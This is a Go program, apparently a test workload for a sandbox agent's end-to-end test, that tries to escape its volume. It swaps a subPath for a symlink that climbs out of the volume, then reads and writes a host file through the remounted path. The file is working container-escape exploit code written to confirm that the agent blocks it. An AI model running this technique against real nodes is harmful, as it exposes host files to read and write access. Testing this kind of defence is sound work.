// Command escape is a workload that tries to leave its volume, for the
// sandbox's tests (test/e2e TestVolumeEscape) and for anyone who wants to
// see the agent refuse it. Built for wasip1/wasm it runs under the agent's
// WASM runtime; it also builds natively.
//
// The pod mounts one emptyDir twice: whole at VOLUME, and its subPath LINK
// at DATA. At every start the program first reads and writes the host file
// TARGET (a path relative to the device's /) through DATA, as if DATA were
// the device's root, and prints what it got:
//
//	read TARGET: <contents or error>
//	write TARGET.escaped: <ok or error>
//
// Then, if VOLUME/LINK is not a symbolic link yet, it replaces it with one
// whose relative target climbs out of the volume ("../../..."), prints
// "linked", and exits with 3 so that the pod restarts: an agent that
// mounted DATA by following that link would give the next run the device's
// root, read-write. Otherwise it prints "ready" and waits to be stopped.
//
//	VOLUME  the whole volume (default /vol)
//	LINK    the subPath DATA mounts (default "l")
//	DATA    where LINK is mounted (default /data)
//	TARGET  the host file to reach, relative to / (required)
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"
)

func main() { os.Exit(run()) }

func run() int {
	vol, link, data := env("VOLUME", "/vol"), env("LINK", "l"), env("DATA", "/data")
	target := strings.TrimPrefix(os.Getenv("TARGET"), "/")
	if target == "" {
		fmt.Fprintln(os.Stderr, "escape: TARGET is required")
		return 2
	}
	through := filepath.Join(data, target)
	if b, err := os.ReadFile(through); err != nil {
		fmt.Printf("read %s: %v\n", target, err)
	} else {
		fmt.Printf("read %s: %q\n", target, b)
	}
	if err := os.WriteFile(through+".escaped", []byte("escaped\n"), 0o644); err != nil {
		fmt.Printf("write %s.escaped: %v\n", target, err)
	} else {
		fmt.Printf("write %s.escaped: ok\n", target)
	}
	l := filepath.Join(vol, link)
	if fi, err := os.Lstat(l); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		if err := os.RemoveAll(l); err != nil {
			fmt.Fprintf(os.Stderr, "escape: remove %s: %v\n", l, err)
			return 1
		}
		if err := os.Symlink(strings.Repeat("../", 32), l); err != nil {
			fmt.Fprintf(os.Stderr, "escape: symlink %s: %v\n", l, err)
			return 1
		}
		fmt.Println("linked")
		return 3
	}
	fmt.Println("ready")
	for {
		time.Sleep(time.Hour)
	}
}

func env(k, def string) string {
	if v := os.Getenv(k); v != "" {
		return v
	}
	return def
}
